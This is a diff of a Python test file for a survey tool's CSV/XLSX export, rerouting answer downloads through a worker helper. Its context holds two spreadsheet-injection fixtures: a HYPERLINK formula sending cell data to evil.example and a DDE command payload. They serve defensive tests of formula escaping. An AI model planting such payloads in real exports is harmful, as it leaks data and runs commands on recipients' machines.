@@ -22,6 +22,7 @@ from cjgscan.lib.spreadsheet import FORMULA_STARTS, safe_cell
 from cjgscan.rounds.models import Response, Round
 from tests.base import BaseTestCase
 from tests.factories import make_response, make_round, release, unrelease
+from tests.stored_exports import download_answers
 
 EVIL_COMMENT = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'
 EVIL_GROUP = "+cmd|' /C calc'!A0"
@@ -101,6 +102,9 @@ class ExportTestCase(BaseTestCase):
         return base + "?" + "&".join(f"{k}={v}" for k, v in params.items())
 
     def download(self, kind: str = "cijfers", file_format: str = "csv", delimiter: str = ";") -> bytes:
+        """The file as a user gets it: the figures at once, the answers through the worker (tests/stored_exports.py)."""
+        if kind == "antwoorden":
+            return download_answers(self.client, self.round, file_format, delimiter)
         response = self.client.get(self.url(inhoud=kind, formaat=file_format, scheidingsteken=delimiter))
         self.assertEqual(response.status_code, 200)
         return b"".join(response.streaming_content)  # type: ignore[attr-defined]
@@ -198,10 +202,11 @@ class FigureExportTests(ExportTestCase):
         self.assertTrue(b"".join(response.streaming_content).startswith(b"PK"))  # type: ignore[attr-defined]
 
     def test_a_fixed_number_of_queries_whatever_the_number_of_respondents(self) -> None:
+        """The figures, made in the request; the answers' download reads a stored file (tests/test_export_worker.py)."""
         self.client.force_login(self.alice)
         self.download("cijfers", "csv")  # the first request also stores the current organisation in the session
         counts = {}
-        for kind in ("cijfers", "antwoorden"):
+        for kind in ("cijfers",):
             for file_format in ("csv", "xlsx"):
                 with CaptureQueriesContext(connection) as before:
                     self.download(kind, file_format)
